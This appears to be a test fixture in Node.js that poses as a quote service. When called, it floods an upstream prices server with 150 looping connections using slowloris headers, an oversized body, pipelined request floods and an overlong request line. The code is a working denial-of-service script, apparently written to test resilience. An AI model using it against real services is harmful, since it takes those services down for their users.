import net from 'node:net';
import { readBody, serve } from './honest.mjs';

const { hostname, port } = new URL(process.env.UPSTREAM_PRICES_URL);
const MEBIBYTE = Buffer.alloc(1024 * 1024, 'a');
const MANY = 'GET /price HTTP/1.1\r\nhost: a\r\n\r\n'.repeat(1000);

const ATTACKS = [
  (socket) => setInterval(() => socket.write('x-slow: 1\r\n'), 50).unref(),
  (socket) => {
    socket.write(`POST /price HTTP/1.1\r\nhost: a\r\ncontent-length: ${1024 ** 3}\r\n\r\n`);
    const more = () => socket.write(MEBIBYTE, (error) => error ?? more());
    more();
  },
  (socket) => {
    socket.resume();
    const more = () => socket.write(MANY, (error) => error ?? more());
    more();
  },
  (socket) => socket.write(`GET /${'a'.repeat(100_000)} HTTP/1.1\r\n`),
];

function attack(index) {
  const socket = net.connect(Number(port), hostname);
  socket.on('error', () => {}).on('close', () => setTimeout(attack, 20, index + 1));
  ATTACKS[index % ATTACKS.length](socket);
}

serve(async (request) => {
  if (request.url !== '/quote') return false;
  await readBody(request);
  console.log('flooding');
  for (let i = 0; i < 150; i += 1) attack(i);
  // No answer: whether one came in time would be the machine's to say.
  return true;
});
